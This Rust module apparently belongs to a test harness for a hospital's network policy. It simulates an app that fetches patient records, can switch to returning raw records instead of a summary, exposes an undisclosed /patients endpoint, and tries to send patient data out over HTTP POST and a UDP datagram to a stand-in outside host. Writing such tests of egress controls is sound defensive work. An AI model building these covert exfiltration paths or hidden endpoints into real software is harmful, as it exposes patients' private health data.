//! The app: honest to callers until it is told otherwise, and full of ideas about what to send.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use bytes::Bytes;
use http_body_util::Full;
use hyper::Request;
use hyper::header::HOST;
use tokio::net::UdpSocket;

use super::attempt::{Attempt, Outgoing, STRANGER_UDP};
use super::data::{self, MIN_PEOPLE, Patient};
use super::http;
use super::orders::{Answer, Behaviour, Got, Network};

/// The hospital's data service, as the policy has it.
pub(super) const HOSPITAL: SocketAddr = SocketAddr::new(
    std::net::IpAddr::V4(std::net::Ipv4Addr::new(10, 96, 0, 20)),
    8080,
);

/// The app.
#[derive(Clone, Debug)]
pub(super) struct App {
    network: Network,
    answers_records: Arc<AtomicBool>,
}

impl App {
    pub(super) fn new(network: Network) -> Self {
        Self {
            network,
            answers_records: Arc::default(),
        }
    }

    pub(super) fn behave(&self, behaviour: Behaviour) {
        let records = behaviour == Behaviour::Records;
        self.answers_records.store(records, Ordering::Relaxed);
    }

    /// What a caller gets.
    pub(super) async fn answer(&self, path: &str) -> io::Result<Option<String>> {
        let patients = self.patients().await?;
        Ok(match path {
            "/summary" if self.answers_records.load(Ordering::Relaxed) => {
                Some(data::records(&patients).to_string())
            }
            "/summary" => Some(format!("{:#}", data::summary(&patients, MIN_PEOPLE))),
            // A way in that the hospital was not told of.
            "/patients" => Some(serde_json::to_string(&patients)?),
            _ => None,
        })
    }

    /// Tries to get something out.
    pub(super) async fn attempt(&self, attempt: Attempt) -> io::Result<Answer> {
        let out = attempt.outgoing(&self.patients().await?);
        if attempt == Attempt::Datagram {
            return Ok(datagram(&out.body).await);
        }
        let sent_bytes = out.body.len();
        match self.send(out).await {
            Ok(got) => Ok(Answer::Got(Got { sent_bytes, ..got })),
            Err(error) => Ok(Answer::Stopped(error.to_string())),
        }
    }

    /// Fetches the raw data: inside the hospital it moves freely.
    async fn patients(&self) -> io::Result<Vec<Patient>> {
        let out = http::get(
            &self.target(&HOSPITAL.to_string(), "/patients"),
            &HOSPITAL.to_string(),
        );
        let request = out.map_err(io::Error::other)?;
        let got = http::send(self.via(HOSPITAL), request).await?;
        if got.status != 200 {
            let problem = format!("the hospital answered {}: {}", got.status, got.body);
            return Err(io::Error::other(problem));
        }
        Ok(serde_json::from_str(&got.body)?)
    }

    async fn send(&self, out: Outgoing) -> io::Result<Got> {
        let mut request =
            Request::post(self.target(&out.host, &out.target)).header(HOST, &out.host);
        for (name, value) in &out.headers {
            request = request.header(*name, value);
        }
        let request = request
            .body(Full::new(Bytes::from(out.body)))
            .map_err(io::Error::other)?;
        http::send(self.via(out.address), request).await
    }

    fn target(&self, host: &str, target: &str) -> String {
        match self.network {
            Network::Proxy(_) => format!("http://{host}{target}"),
            Network::Plain => target.to_owned(),
        }
    }

    const fn via(&self, address: SocketAddr) -> SocketAddr {
        match self.network {
            Network::Proxy(proxy) => proxy,
            Network::Plain => address,
        }
    }
}

async fn datagram(secret: &[u8]) -> Answer {
    let sent = async {
        let socket = UdpSocket::bind("0.0.0.0:0").await?;
        socket.send_to(secret, STRANGER_UDP).await
    };
    match sent.await {
        Ok(_) => Answer::Done,
        Err(error) => Answer::Stopped(error.to_string()),
    }
}
